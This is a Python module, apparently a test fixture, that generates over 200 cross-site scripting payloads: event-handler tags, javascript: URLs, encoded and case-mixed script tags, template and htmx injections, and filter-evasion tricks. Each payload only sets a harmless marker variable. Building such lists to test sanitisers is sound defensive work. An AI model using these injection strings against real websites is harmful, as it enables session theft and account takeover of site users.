"""Words that try to become script: forms of HTML, attributes, addresses, SVG, templates and encodings, each raising `window.hit`."""

from __future__ import annotations

from itertools import product

_CALL = "window.hit=1"
_HANDLERS = (
    "onerror onload onclick onfocus onmouseover onanimationstart ontoggle onpointerenter onbegin onhashchange oninput onstart "
    "onpageshow onscroll onwheel ontransitionend"
).split()
_TAGS = (
    "<img src=x {h}={c}>", "<svg {h}={c}>", "<body {h}={c}>", "<input autofocus {h}={c}>", "<details open {h}={c}>",
    '<video {h}="{c}"><source src=x></video>', "<marquee {h}={c}>", '"><img src=x {h}={c} x="', "'><img src=x {h}={c} x='",
    "<img/src/{h}={c}>", "<IMG SRC=x {h}={c}//", "<svg><animate {h}={c} attributeName=x dur=1s>",
)  # fmt: skip
_OTHERS = (
    "<script>{c}</script>", "<ScRiPt>{c}</sCrIpT>", "<script src=data:text/javascript,{c}></script>", "</title><script>{c}</script>",
    "</textarea><script>{c}</script>", "</style><script>{c}</script>", "--><script>{c}</script>", "]]><script>{c}</script>",
    "<a href=javascript:{c}>x</a>", "<a href='java\tscript:{c}'>x</a>", "<iframe src=javascript:{c}>", "<iframe srcdoc='<script>parent.{c}</script>'>",
    "<object data=javascript:{c}>", "<embed src=javascript:{c}>", "<form action=javascript:{c}><input type=submit>", "<math href=javascript:{c}>x",
    "<base href=javascript:/><a href={c}>x</a>", "<meta http-equiv=refresh content='0;url=javascript:{c}'>", "<link rel=stylesheet href=javascript:{c}>",
    "<style>@import 'javascript:{c}'</style>", "<div style=background:url(javascript:{c})>", "{{{{ ''.__class__ }}}}<script>{c}</script>",
    "{{% raw %}}<script>{c}</script>", "${{{c}}}", "<%= {c} %>", "&lt;script&gt;{c}&lt;/script&gt;", "%3Cscript%3E{c}%3C/script%3E",
    "\\u003cscript\\u003e{c}\\u003c/script\\u003e", "<scr<script>ipt>{c}</scr</script>ipt>", "<svg/onload={c}//", "<x onclick={c} tabindex=0>",
    "javascript:{c}", "data:text/html,<script>parent.{c}</script>", "<!--<img src='--><img src=x onerror={c}//'>", "<noscript><p title='</noscript><img src=x onerror={c}>'>",
    "<template><script>{c}</script></template>", "<button hx-get=/ hx-on::load={c}>", "<div hx-trigger=load hx-get=javascript:{c}>", "<div data-hx-on-click={c}>",
    "<use href=data:image/svg+xml,<svg onload={c}>>",
)  # fmt: skip

PAYLOADS = tuple(tag.format(h=handler, c=_CALL) for tag, handler in product(_TAGS, _HANDLERS)) + tuple(
    other.format(c=_CALL) for other in _OTHERS
)
"""More than 200 of them."""
